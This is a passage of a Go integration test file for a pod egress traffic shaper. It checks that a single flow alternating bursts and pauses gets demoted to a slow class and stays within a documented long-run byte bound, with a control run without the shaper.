			t.Errorf("%s left the pod in %.1f s, over the bound %s", mib(got), el, mib(window))
		}
		if all > bound(to.Sub(t0)) {
			t.Errorf("%s left the pod in all, over the bound %s", mib(all), mib(bound(to.Sub(t0))))
		}
		if inter < slow/2 {
			t.Errorf("the interactive leaf sent %s of the slow class's %s: the flows did not get the priority the attack is after", mib(inter), mib(slow))
		}
	})
}

// TestIntegrationBurstPause: one flow that alternates bursts and pauses, to
// stay in the slow class's interactive leaf while it moves bulk. Each burst
// is the allowance's burst (demotion.InteractiveLimit: 122 KiB at 8 mbit,
// the most hashlimit lets a flow put in the interactive leaf in one
// window, and more than the leaf's own 64 KiB burst), each pause 50 ms
// (the leaves' token buckets refill part of their bursts). With a small
// pod budget the flow is demoted within the first second, and what leaves
// the pod over the whole run stays within the documented long-run bound:
// the pod budget, the refill and SLOW_RATE over the run, and the slow
// class's constant (docs/shaping.md, "The long-run bound": the interactive
// leaf's 64 KiB burst, the slow class's, the bulk and the served leaves'
// bursts of max(10 ms of SLOW_RATE, two frames): tcshape's SlowExcess;
// and the one 64 KiB packet HTB lets a leaf send into debt). Control: the same flow without hubwarden moves
// more than that bound.
func TestIntegrationBurstPause(t *testing.T) {
	const (
		d     = 12 * time.Second
		pause = 50 * time.Millisecond
		pod   = 1 << 20 // POD_BUDGET = FLOW_BUDGET
	)
	_, burstKiB, ok := demotion.InteractiveLimit(slowRate)
	if !ok {
		t.Fatalf("no interactive allowance at %d B/s", slowRate)
	}
	burst := burstKiB << 10
	over := map[string]string{"HUBWARDEN_POD_BUDGET": "1MiB", "HUBWARDEN_FLOW_BUDGET": "1MiB"}
	constant := slowExcess(t) + 64<<10
	limit := func(el float64) int64 { return pod + int64((podRefill+slowRate)*el) + constant }
	// run alternates bursts and pauses on one connection to the pod's
	// server for d and returns the bytes received and the seconds from
	// before the connection to the last byte.
	run := func(b *bed) (int64, float64) {
		t0 := time.Now()
		c, err := b.Peer.DialTimeout("tcp", net.JoinHostPort(b.PodIP4, fmt.Sprint(serverPort)), 2*time.Second)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		deadline := t0.Add(d)
		c.SetDeadline(deadline)
		s := senderOn(c)
		var got uint64
		for time.Now().Before(deadline) {
			k, err := s.fetch(burst)
			got += k
			if err != nil {
				break
			}
			time.Sleep(pause)
		}
		return int64(got), time.Since(t0).Seconds()
	}
	t.Run("control: without hubwarden", func(t *testing.T) {
		b := newBed(t, 85, false, nil)
		got, el := run(b)
		t.Logf("without hubwarden: one flow, bursts of %d KiB every %s, moved %s in %.2f s (%.0f B/s); hubwarden's bound for that time %s",
			burstKiB, pause, mib(got), el, float64(got)/el, mib(limit(el)))
		if got <= limit(el) {
			t.Errorf("the control moved %s, not more than the bound %s: the test would prove nothing", mib(got), mib(limit(el)))
		}
	})
	t.Run("hubwarden", func(t *testing.T) {
		b := newBed(t, 87, true, over)
		slow0, _ := b.Pod.ClassSent("eth0", tcshape.SlowClass.String())
		inter0, _ := b.Pod.ClassSent("eth0", tcshape.InteractiveClass.String())
		got, el := run(b)
		slow1, _ := b.Pod.ClassSent("eth0", tcshape.SlowClass.String())
		inter1, _ := b.Pod.ClassSent("eth0", tcshape.InteractiveClass.String())
		slow, inter := int64(slow1-slow0), int64(inter1-inter0)
		t.Logf("with hubwarden (POD_BUDGET = FLOW_BUDGET = 1 MiB, refill %d B/s, SLOW_RATE %d B/s): one flow, bursts of %d KiB with %s pauses, moved %d bytes (%s) in %.2f s, %.0f B/s; bound %d (%s: 1 MiB + %.0f B/s × %.2f s + %d), %.1f%% of it; the slow class sent %d bytes, %d of them from the interactive leaf (%.0f%%); demotions %.0f",
			podRefill, slowRate, burstKiB, pause, got, mib(got), el, float64(got)/el, limit(el), mib(limit(el)), float64(podRefill+slowRate), el, constant,
			100*float64(got)/float64(limit(el)), slow, inter, 100*float64(inter)/float64(max(slow, 1)), b.s.Metric("hubwarden_demotions_total"))
		if got > limit(el) {
			t.Errorf("%s left the pod in %.2f s, over the long-run bound %s", mib(got), el, mib(limit(el)))
		}
		if slow < int64(got)/2 {
			t.Errorf("the slow class sent %s of the %s moved: the flow was not throttled, the bound held for another reason", mib(slow), mib(got))
		}
	})
}

// slowExcess is what the slow class may send above SLOW_RATE × t at the
// beds' SLOW_RATE (tcshape.Spec.SlowExcess; the fast rate does not enter
// it).
func slowExcess(t *testing.T) int64 {
	t.Helper()
	spec, err := tcshape.Plan(tcshape.Config{Interface: "eth0", FastRate: 1e9, SlowRate: slowRate})
	if err != nil {
		t.Fatal(err)
	}
	return int64(spec.SlowExcess())
}
